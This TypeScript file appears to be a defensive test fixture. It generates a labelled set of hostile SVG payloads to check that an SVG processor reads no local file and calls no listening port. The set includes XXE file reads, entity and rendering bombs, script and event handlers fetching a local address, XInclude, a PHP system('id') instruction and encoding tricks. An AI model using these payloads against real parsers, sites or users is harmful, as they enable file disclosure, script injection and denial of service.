/** What has been done to those who open SVG files of others, one of each class; `port` hears whoever calls, `file` must not be read. */
export function hostileSvgs({ port, file }: { readonly port: number; readonly file: string }) {
  const there = `http://127.0.0.1:${port}`;
  const svg = (body: string, more = "") =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"${more}>${body}</svg>`;
  const mark = '<path d="M10 10h80v80h-80z" fill="#d3261c"/>';
  const many = (n: number, of: (i: number) => string) => Array.from({ length: n }, (_, i) => of(i)).join("");
  const doubling = (n: number) =>
    `${many(n, (i) => `<g id="d${i + 1}"><use href="#d${i}"/><use href="#d${i}"/></g>`)}<use href="#d${n}"/>`;
  return {
    "external entity": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${file}">]>${svg(`${mark}<desc>&x;</desc>`)}`,
    "external DTD": `<!DOCTYPE svg SYSTEM "${there}/svg.dtd">${svg(mark)}`,
    "parameter entity": `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${there}/p.dtd"> %p;]>${svg(mark)}`,
    "billion laughs": `<!DOCTYPE svg [<!ENTITY a "lol">${many(9, (i) => `<!ENTITY a${i} "${`&a${i === 0 ? "" : i - 1};`.repeat(10)}">`)}]>${svg(`${mark}<desc>&a8;</desc>`)}`,
    "quadratic entities": `<!DOCTYPE svg [<!ENTITY b "${"b".repeat(50_000)}">]>${svg(`<desc>${"&b;".repeat(5000)}</desc>${mark}`)}`,
    "picture of a file": svg(`<image href="file://${file}" width="100" height="100"/>`),
    "picture of a path": svg(`<image xlink:href="${file}" width="100" height="100"/>`),
    "picture from elsewhere": svg(`<image href="${there}/a.png" width="100" height="100"/>`),
    "data in data": svg(
      `<image href="data:image/svg+xml;base64,${Buffer.from(svg(`<image href="${there}/b.png" width="9" height="9"/>`)).toString("base64")}" width="99" height="99"/>`,
    ),
    script: svg(`<script>fetch("${there}/s")</script><script href="${there}/s.js"/>${mark}`),
    events: svg(`<g onclick="fetch('${there}/c')">${mark}</g>`, ` onload="fetch('${there}/l')"`),
    "script address": svg(`<a xlink:href="javascript:fetch('${there}')">${mark}</a>`),
    "foreign content": svg(
      `<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${there}/i"/></foreignObject>${mark}`,
    ),
    "style import": svg(
      `<style>@import url("${there}/c.css"); @font-face{font-family:x;src:url(${there}/f.woff)} path{fill:url(${there}/p.svg#x)}</style>${mark}`,
    ),
    "style that escapes": svg(
      `<style>path{fill:red"/><image href="${there}/q.png"}</style><path style="fill:&quot;/&gt;&lt;image href=${there}/r.png" d="M10 10h80v80h-80z"/>`,
    ),
    "fill from elsewhere": svg(
      `<path d="M10 10h80v80h-80z" fill="url(${there}/g.svg#a)" clip-path="url('${there}/g.svg#b')"/>${mark}`,
    ),
    "use from elsewhere": svg(`<use href="${there}/u.svg#a"/><use xlink:href="file://${file}#a"/>${mark}`),
    "use of itself": svg(`<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>${mark}`),
    "use that doubles": svg(`<path id="d0" d="M0 0h9v9z"/>${doubling(40)}`),
    "mask of itself": svg(`<mask id="m" mask="url(#m)"><path d="M0 0h9v9z"/></mask><g mask="url(#m)">${mark}</g>`),
    "pattern in pattern": svg(
      `<defs>${many(40, (i) => `<pattern id="p${i}" width="1" height="1" patternUnits="userSpaceOnUse"><path d="M0 0h1v1z" fill="url(#p${i + 1})"/></pattern>`)}</defs><path d="M0 0h99v99z" fill="url(#p0)"/>`,
    ),
    "filter bomb": svg(
      `<filter id="f" width="9e9" height="9e9">${many(200, () => '<feGaussianBlur stdDeviation="900"/><feTurbulence baseFrequency="9" numOctaves="99"/>')}<feImage href="${there}/fe.png"/></filter><g filter="url(#f)">${mark}</g>`,
    ),
    "huge view": svg(mark).replace('viewBox="0 0 100 100"', 'viewBox="0 0 1000000000 1000000000"'),
    "huge side": svg(mark).replace('viewBox="0 0 100 100"', 'width="999999999" height="999999999"'),
    "no number": svg(mark).replace('viewBox="0 0 100 100"', 'viewBox="0 0 NaN 1e999"'),
    XInclude: svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${file}" parse="text"/>${mark}`),
    "processing instruction": `<?xml-stylesheet type="text/css" href="${there}/x.css"?><?php system('id') ?>${svg(mark)}`,
    animation: svg(`<set attributeName="href" to="${there}/an"/><animate attributeName="d" values="x"/>${mark}`),
    "a million dashes": svg(
      `<path d="M0 0h1e6" stroke="#000" stroke-width="9" stroke-dasharray="1e-9 1e-9" transform="scale(1e-4)"/>${mark}`,
    ),
    "layers in layers": svg(`${'<g opacity=".9">'.repeat(2000)}${mark}${"</g>".repeat(2000)}`),
    "many layers": svg(many(4000, (i) => `<g opacity=".9"><path d="M${i % 90} 0h9v99z"/></g>`)),
    "a long path": svg(`<path d="M0 0${many(40_000, (i) => `L${i % 97} ${(i * 31) % 89}`)}" fill="#000"/>`),
    unclosed: "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><g><path d='M0 0h9",
    comments: svg(`${mark}<style>${"/*".repeat(200_000)}</style>`),
    selectors: svg(
      `<style>${many(400, (i) => `.a${i}{fill:red}`)}</style>${many(4000, () => '<path class="a b c" d="M0 0h1v1z"/>')}`,
    ),
    text: svg(`<text x="9" y="50" font-family="url(${there}/t.ttf)">hello</text>`),
    "hidden bytes": `${svg(mark)}\0<image href="file://${file}"/>`,
    "UTF-7": `<?xml version="1.0" encoding="UTF-7"?>${svg(`+ADw-image href=+ACI-${there}+ACI-/+AD4-${mark}`)}`,
  } satisfies Readonly<Record<string, string>>;
}
